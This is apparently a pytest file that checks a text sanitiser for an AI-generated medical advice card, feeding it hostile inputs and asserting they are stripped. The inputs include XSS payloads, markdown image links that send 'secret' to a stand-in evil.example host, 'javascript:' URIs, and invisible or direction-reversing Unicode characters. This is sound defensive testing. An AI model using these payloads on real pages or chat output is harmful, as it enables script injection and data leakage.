"""What a machine wrote is shown as words: no markup, nothing invisible or turned around, and not too long."""

import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from simlab.engine.card import card
from simlab.engine.cardrules import card_faults
from simlab.engine.case import Advice
from simlab.engine.plaintext import LONGEST_LINE, clean, clean_line

HOSTILE = [
    ("<script>alert(1)</script>Gout", "Gout"),
    ("<img src=x onerror=alert(1)>Gout", "Gout"),
    ("<svg/onload=alert(1)>Gout</svg> after", "after"),
    ("<scr<script>ipt>alert(1)</script>", "<scr"),
    ("<scr<b>ipt>alert(1)</scr</b>ipt>Gout", "Gout"),
    ("[a]([b](c)https://evil.example)", "ahttps://evil.example)"),
    ("![pixel](https://evil.example/?q=secret)Gout", "pixelGout"),
    ("![pixel][1] Gout\n\n[1]: https://evil.example/x", "pixel Gout"),
    ("See [the guideline](https://evil.example/login)", "See the guideline"),
    ("<https://evil.example>", "https://evil.example"),
    ("<!-- hidden -->Gout", "Gout"),
    ("javascript:alert(1)", "javascript alert(1)"),
    ("Go\u202etuog\u202c", "Gotuog"),
    ("Go\u200but\u2060 \ufeffnow", "Gout now"),
    ("a\x00b\x07c\x1b[31mred", "abc[31mred"),
    ("\u2066isolated\u2069", "isolated"),
    ("tag\U000e0041\U000e0042s", "tags"),
    ("Z̷̢̛͓a", "Z̷̢a"),
    ("one\u2028two", "one\ntwo"),
    ("a\n\n\n\n\nb", "a\n\nb"),
    ("wide\u3000and\u00a0narrow", "wide and narrow"),
]


@pytest.mark.parametrize(("given_text", "left"), HOSTILE)
def test_what_is_left_of_hostile_text(given_text, left):
    assert unicodedata.normalize("NFD", clean(given_text)) == unicodedata.normalize("NFD", left)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(), max_size=400) | st.text("<>![]()/abhrefs:j\u202e\u200b\x00 \n", max_size=200))
def test_nothing_that_is_not_words_comes_through(text):
    left = clean(text)
    assert not re.search(r"</?[a-zA-Z][^<>]*>|!\[[^\]]*\]\(", left)
    assert all(unicodedata.category(c)[0] != "C" or c == "\n" for c in left)
    assert left == left.strip()
    assert "\n" not in clean_line(text)


def test_text_of_a_megabyte_is_cut_to_its_limit():
    assert len(clean("word " * 250_000)) == 4000
    assert len(clean_line("x" * 1_000_000)) == LONGEST_LINE


@pytest.mark.parametrize(("hostile", "_left"), HOSTILE)
def test_card_of_hostile_advice_is_sound_and_plain(hostile, _left):
    advice = Advice.model_construct(
        **{
            **Advice.model_validate(
                {"id": "a", "correct": True, "diagnosis": {"term": "Gout"}, "summary": "Gout"}
            ).__dict__,
            "summary": "Gout " + hostile,
            "rationale": hostile * 50,
            "findings_for": (hostile,),
            "counterfactual": hostile,
            "highlights": (hostile,),
            "data_quality": hostile,
        }
    )
    show = frozenset({"rationale", "findings", "counterfactual", "highlights", "data-quality", "confidence"})
    made = card(advice, show=show, label="AI " + hostile)
    assert card_faults(made) == []
    said = str(made)
    for forbidden in ("<script", "<img", "<svg", "](http", "\u202e", "\u200b", "\x00"):
        assert forbidden not in said
